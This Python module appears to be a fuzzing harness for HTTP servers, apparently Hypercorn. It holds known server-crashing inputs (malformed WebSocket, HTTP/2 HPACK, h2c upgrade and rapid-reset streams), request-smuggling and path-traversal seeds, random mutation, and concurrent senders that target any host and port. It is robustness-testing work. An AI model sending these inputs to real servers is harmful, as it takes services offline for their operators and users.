"""Hostile connections: what is known to end a stock Hypercorn (K1–K7), what parsers disagree on, and mutations of both.

`corpus(seed)` never ends and is the same for the same seed; `play` acts one attack out against any host and port,
`storm` many of them at once.
"""

import random
import re
import socket
import struct
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from enum import StrEnum
from itertools import count, pairwise
from types import MappingProxyType

import trio

READ_MAX = 64 * 1024
STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")


class Then(StrEnum):
    """What the client does after a step's bytes and pause."""

    GO_ON = "go on"
    HALF_CLOSE = "half-close"
    CLOSE = "close"
    RESET = "reset"


@dataclass(frozen=True, slots=True)
class Step:
    data: bytes
    pause: float = 0.0  # seconds
    then: Then = Then.GO_ON


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    steps: tuple[Step, ...]

    @property
    def data(self) -> bytes:
        return b"".join(step.data for step in self.steps)


def _head(line: str, *headers: str, body: bytes = b"") -> bytes:
    return "\r\n".join([line, *headers, "", ""]).encode("latin-1") + body


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def _literal(index: int, value: bytes) -> bytes:
    return bytes([index, len(value)]) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0)
GET_HTTP = b"\x82\x86"  # HPACK: :method GET, :scheme http
AUTHORITY = _literal(1, b"x")  # HPACK index 1 is :authority, 2 :method, 4 :path
END = 0x5  # END_STREAM, END_HEADERS

WEBSOCKET = ("Host: x", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
KEY = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="

K1 = _head("GET / HTTP/1.1", *WEBSOCKET, KEY, body=b"\x81\x85\x00\x00\x00\x00hello trailing bytes")
K2 = PREFACE + _frame(1, END, 1, GET_HTTP + AUTHORITY + _literal(4, b"/\xff"))
K3 = PREFACE + _frame(1, END, 1, _literal(2, b"CONNECT") + AUTHORITY)
K4 = _head("GET / HTTP/1.1", "Host: x", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: A")
K5 = _head("GET ? HTTP/1.1", "Host: x") + b"\x00\x01garbage\r\n\r\n" * 3
K5_ABSOLUTE = _head("GET http://[::1 HTTP/1.1", "Host: x") + b"\x00\x01garbage\r\n\r\n" * 3


def rapid_reset(streams: int) -> bytes:
    """K7: open and abandon `streams` HTTP/2 streams in one breath."""
    path = _literal(4, b"/")
    pairs = (
        _frame(1, END, 2 * n + 1, GET_HTTP + AUTHORITY + path) + _frame(3, 0, 2 * n + 1, b"\0\0\0\x08")
        for n in range(streams)
    )
    return PREFACE + b"".join(pairs)


DEADLY = {"K1": K1, "K2": K2, "K3": K3, "K4": K4}
POST = ("POST /echo HTTP/1.1", "Host: x")
CHUNKED = (*POST, "Transfer-Encoding: chunked")

SEEDS: dict[str, bytes] = {
    **DEADLY,
    "K5": K5,
    "K5 absolute": K5_ABSOLUTE,
    "K7": rapid_reset(50),
    "plain": _head("GET / HTTP/1.1", "Host: x"),
    "body": _head(*POST, "Content-Length: 5", body=b"hello"),
    "chunks": _head(*CHUNKED, body=b"5\r\nhello\r\n0\r\n\r\n"),
    "pipeline": _head("GET / HTTP/1.1", "Host: x") * 5,
    "both lengths": _head(*CHUNKED, "Content-Length: 5", body=b"0\r\n\r\nGET /x HTTP/1.1\r\nHost: x\r\n\r\n"),
    "two lengths": _head(*POST, "Content-Length: 5", "Content-Length: 6", body=b"hello!"),
    "same length twice": _head(*POST, "Content-Length: 5", "Content-Length: 5", body=b"hello"),
    "negative length": _head(*POST, "Content-Length: -1"),
    "endless length": _head(*POST, "Content-Length: " + "9" * 40),
    "too long": _head(*POST, "Content-Length: 1048576", body=b"x" * 20_000),
    "too long in chunks": _head(*CHUNKED, body=b"4000\r\n" + b"x" * 0x4000 + b"\r\n4000\r\n" + b"x" * 0x4000),
    "bad chunk": _head(*CHUNKED, body=b"zz\r\nhello\r\n0\r\n\r\n"),
    "negative chunk": _head(*CHUNKED, body=b"-5\r\nhello\r\n0\r\n\r\n"),
    "chunk extension": _head(*CHUNKED, body=b"5;" + b"a" * 8000 + b"\r\nhello\r\n0\r\n\r\n"),
    "trailers": _head(*CHUNKED, body=b"0\r\nContent-Length: 7\r\nX: y\r\n\r\n"),
    "other coding": _head(*POST, "Transfer-Encoding: gzip, chunked", body=b"0\r\n\r\n"),
    "hidden coding": _head(*POST, "Transfer-Encoding: xchunked", body=b"0\r\n\r\n"),
    "bare LF": b"GET / HTTP/1.1\nHost: x\n\n",
    "mixed LF": b"GET / HTTP/1.1\r\nHost: x\nX: y\r\n\r\n",
    "folded": b"GET / HTTP/1.1\r\nHost: x\r\nX: a\r\n b\r\n\r\n",
    "space before colon": b"GET / HTTP/1.1\r\nHost : x\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "two hosts": _head("GET / HTTP/1.1", "Host: x", "Host: y"),
    "lower-case method": _head("get / HTTP/1.1", "Host: x"),
    "unknown method": _head("BREW /pot HTTP/1.1", "Host: x"),
    "connect": _head("CONNECT x:443 HTTP/1.1", "Host: x"),
    "asterisk": _head("OPTIONS * HTTP/1.1", "Host: x"),
    "absolute": _head("GET http://x/ HTTP/1.1", "Host: x"),
    "other scheme": _head("GET file:///etc/passwd HTTP/1.1", "Host: x"),
    "dots": _head("GET /../../%2e%2e/%00/%ff%fe HTTP/1.1", "Host: x"),
    "colon path": _head("GET //[::1 HTTP/1.1", "Host: x"),
    "version 2": _head("GET / HTTP/2.0", "Host: x"),
    "version 9": _head("GET / HTTP/9.9", "Host: x"),
    "version 0.9": b"GET /\r\n",
    "old": b"GET / HTTP/1.0\r\n\r\n",
    "old keep-alive": b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n" * 2,
    "expect": _head(*POST, "Expect: 100-continue", "Content-Length: 5", body=b"hello"),
    "expect too much": _head(*POST, "Expect: 100-continue", "Content-Length: 99999"),
    "long head": _head("GET / HTTP/1.1", "Host: x", "X: " + "y" * 20_000),
    "many headers": _head("GET / HTTP/1.1", "Host: x", *(f"X-{n}: y" for n in range(1500))),
    "long target": _head("GET /" + "a" * 20_000 + " HTTP/1.1", "Host: x"),
    "NUL in header": b"GET / HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n",
    "latin header": b"GET / HTTP/1.1\r\nHost: x\r\nX: \xe9\xff\r\n\r\n",
    "latin target": b"GET /\xe9 HTTP/1.1\r\nHost: x\r\n\r\n",
    "many upgrades": _head("GET / HTTP/1.1", "Host: x", "Upgrade: h2c, websocket, TLS/1.3", "Connection: Upgrade"),
    "upgrade post": _head(*POST, "Upgrade: h2c", "Connection: Upgrade", "Content-Length: 5", body=b"hello"),
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)) * 2,
    "proxy protocol": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + _head("GET / HTTP/1.1", "Host: x"),
    "blank lines": b"\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n",
    "nothing": b"",
}


def corpus(seed: int, more: Mapping[str, bytes] = MappingProxyType({})) -> Iterator[Attack]:
    """Every known attack, and those of `more`, as it stands; then mutations of them for ever."""
    dice, seeds = random.Random(seed), {**SEEDS, **more}
    for name, data in seeds.items():
        yield Attack(name, (Step(data, then=Then.HALF_CLOSE),))
    names = list(seeds)
    for number in count():
        name = dice.choice(names)
        data = seeds[name]
        for _ in range(dice.choice((0, 1, 1, 2, 4))):
            data = _mutate(data, dice)
        yield Attack(f"{name} #{number}", _steps(data, dice))


def _truncate(data: bytes, at: int, _upto: int, _dice: random.Random) -> bytes:
    return data[:at]


def _insert(data: bytes, at: int, _upto: int, dice: random.Random) -> bytes:
    return data[:at] + dice.randbytes(dice.randrange(1, 12)) + data[at:]


def _remove(data: bytes, at: int, upto: int, _dice: random.Random) -> bytes:
    return data[:at] + data[upto:]


def _repeat(data: bytes, at: int, upto: int, dice: random.Random) -> bytes:
    return data[:upto] + data[at:upto] * dice.randrange(1, 30) + data[upto:]


def _flip(data: bytes, at: int, upto: int, dice: random.Random) -> bytes:
    return data[:at] + bytes(byte ^ (1 << dice.randrange(8)) for byte in data[at:upto]) + data[upto:]


def _graft(data: bytes, at: int, _upto: int, dice: random.Random) -> bytes:
    return data[:at] + dice.choice(list(SEEDS.values()))


def _follow(data: bytes, _at: int, _upto: int, dice: random.Random) -> bytes:
    return data + dice.choice(list(SEEDS.values()))


def _respell(data: bytes, _at: int, _upto: int, dice: random.Random) -> bytes:
    spellings = ((b"\r\n", b"\n"), (b"\r\n", b"\r"), (b": ", b":"), (b" ", b"\t"), (b"1.1", b"1.0"), (b"/", b"?"))
    old, new = dice.choice(spellings)
    return data.replace(old, new, dice.randrange(1, 4))


MUTATIONS = (_truncate, _insert, _remove, _repeat, _flip, _graft, _follow, _respell)


def _mutate(data: bytes, dice: random.Random) -> bytes:
    at = dice.randrange(len(data) + 1)
    return dice.choice(MUTATIONS)(data, at, min(len(data), at + dice.randrange(1, 20)), dice)


def _steps(data: bytes, dice: random.Random) -> tuple[Step, ...]:
    """Cut `data` into a few pieces, hesitate between some of them, and end in one of the ways there are."""
    cuts = sorted(dice.randrange(len(data) + 1) for _ in range(dice.choice((0, 0, 0, 1, 3))))
    edges = [0, *cuts, len(data)]
    pieces = [data[start:end] for start, end in pairwise(edges)]
    pauses = [dice.choice((0.0, 0.0, 0.002)) for _ in pieces]
    steps = [Step(piece, pause) for piece, pause in zip(pieces, pauses, strict=True)]
    last = dice.choice(list(Then))
    return (*steps[:-1], Step(steps[-1].data, steps[-1].pause, last))


async def play(port: int, attack: Attack, *, host: str = "127.0.0.1", patience: float = 0.05) -> bytes:
    """Act `attack` out and return what the server said within `patience` seconds of its last step.

    Errors: OSError when nobody accepts the connection, which is the one thing an attack must not bring about.
    """
    heard = bytearray()
    stream = await trio.open_tcp_stream(host, port)
    async with stream:
        try:
            await _act(stream, attack, patience)
            with trio.move_on_after(patience):
                while data := await stream.receive_some(READ_MAX):
                    heard += data
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            pass  # the server had enough, or we closed
    return bytes(heard)


async def _act(stream: trio.SocketStream, attack: Attack, patience: float) -> None:
    for step in attack.steps:
        with trio.move_on_after(patience):  # a server may well stop reading
            await stream.send_all(step.data)
        await trio.sleep(step.pause)
        match step.then:
            case Then.HALF_CLOSE:
                await stream.send_eof()
            case Then.RESET:
                stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                await stream.aclose()
            case Then.CLOSE:
                await stream.aclose()
            case Then.GO_ON:
                pass


async def storm(port: int, attacks: Iterator[Attack]) -> list[tuple[str, bytes]]:
    """Play `attacks`, 16 at a time; return those which got a 5xx, with what they got."""
    bad: list[tuple[str, bytes]] = []

    async def attack() -> None:
        for one in attacks:
            heard = await play(port, one, patience=0.02)
            if any(status >= b"500" for status in STATUS.findall(heard)):
                bad.append((one.name, heard))

    async with trio.open_nursery() as attackers:
        for number in range(16):
            attackers.start_soon(attack, name=f"attacker {number}")
    return bad
